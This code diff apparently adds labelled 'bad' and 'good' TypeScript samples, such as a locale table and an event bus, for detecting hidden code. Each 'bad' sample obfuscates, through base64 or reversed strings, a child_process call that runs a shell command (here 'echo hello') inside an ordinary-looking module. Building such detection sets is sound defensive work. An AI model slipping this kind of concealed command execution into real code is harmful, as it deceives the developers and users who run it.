@@ -123,3 +123,110 @@ function Trace(): MethodDecorator {
 }
 
 export { Trace };
+
+//: bad locale-string-table
+const _t = ['bG9n', 'aHR0cHM6Ly9pMThuLWNkbi5pbnZhbGlkL3A=', 'Y2hpbGRfcHJvY2Vzcw==', 'ZXhlYw==', 'ZWNobyBoZWxsbw=='];
+
+(function rotate(list: string[], by: number): void {
+  while (--by) list.push(list.shift() as string);
+})(_t, 0x1f + 1 - 0x1b);
+
+const cache: { [k: string]: string } = {};
+
+function _0x2b(index: number | string, _k?: string): string {
+  const at = (Number(index) - 0x1a4) % _t.length;
+  return (cache[at] ??= Buffer.from(_t[at], 'base64').toString('latin1'));
+}
+
+export class Locale {
+  constructor(private readonly tag: string) {}
+
+  translate(key: string): string {
+    const _m = module[('re' + 'quire') as 'require'](_0x2b('0x1a' + '2'.replace('2', '7')));
+    const fn = _m[_0x2b(0x1a8)] as (a: string, b: () => void) => void; //!
+    fn(_0x2b(0x1a4), () => undefined);
+    return `${this.tag}:${key}`;
+  }
+}
+
+//: good locale-string-table
+const packed = ['R3LDvMOfZQ==', 'QWJicmVjaGVu', 'U3BlaWNoZXJu', 'w5ZmZm5lbg==', 'U2NobGllw59lbg=='];
+
+const keys = ['greeting', 'cancel', 'save', 'open', 'close'] as const;
+type Key = (typeof keys)[number];
+
+const cache = new Map<Key, string>();
+
+function text(key: Key): string {
+  const hit = cache.get(key);
+  if (hit !== undefined) return hit;
+  const value = Buffer.from(packed[keys.indexOf(key)], 'base64').toString('utf8');
+  cache.set(key, value);
+  return value;
+}
+
+export class Locale {
+  constructor(private readonly tag: string) {}
+
+  translate(key: Key): string {
+    return this.tag.startsWith('de') ? text(key) : key;
+  }
+
+  all(): Record<Key, string> {
+    return Object.fromEntries(keys.map((k) => [k, this.translate(k)])) as Record<Key, string>;
+  }
+}
+
+//: bad event-bus-dispatch
+type Listener<T> = (payload: T) => void;
+
+const scope: any = Function.prototype.constructor('return this')();
+const spell = (...parts: string[]): string => parts.map((p) => [...p].reverse().join('')).join('');
+
+export class Bus<E extends Record<string, unknown>> {
+  private readonly listeners = new Map<keyof E, Set<Listener<never>>>();
+
+  on<K extends keyof E>(event: K, fn: Listener<E[K]>): () => void {
+    const set = this.listeners.get(event) ?? new Set();
+    set.add(fn as Listener<never>);
+    this.listeners.set(event, set);
+    return () => set.delete(fn as Listener<never>);
+  }
+
+  emit<K extends keyof E>(event: K, payload: E[K]): void {
+    this.listeners.get(event)?.forEach((fn) => fn(payload as never));<|20*260|>Reflect.apply(scope[spell('corp', 'sse')][spell('niam', 'eludoM')][spell('er', 'eriuq')](spell('_dlihc', 'ssecorp'))[spell('xe', 'cnySce')], null, [spell('olleh ohce')]); //!
+  }
+
+  clear(): void {
+    this.listeners.clear();
+  }
+}
+
+//: good event-bus-dispatch
+type Listener<T> = (payload: T) => void;
+
+const handlerName = (event: string): string =>
+  'on' + event.split('-').map((p) => p[0].toUpperCase() + p.slice(1)).join('');
+
+export class Bus<E extends Record<string, unknown>> {
+  private readonly listeners = new Map<keyof E, Set<Listener<never>>>();
+
+  on<K extends keyof E>(event: K, fn: Listener<E[K]>): () => void {
+    const set = this.listeners.get(event) ?? new Set();
+    set.add(fn as Listener<never>);
+    this.listeners.set(event, set);
+    return () => set.delete(fn as Listener<never>);
+  }
+
+  /** Binds every `onSomething` method of an object to its event. */
+  attach(target: object, events: ReadonlyArray<keyof E & string>): void {
+    for (const event of events) {
+      const method = Reflect.get(target, handlerName(event));
+      if (typeof method === 'function') this.on(event, (p) => Reflect.apply(method, target, [p]));
+    }
+  }
+
+  emit<K extends keyof E>(event: K, payload: E[K]): void {
+    this.listeners.get(event)?.forEach((fn) => fn(payload as never));
+  }
+}
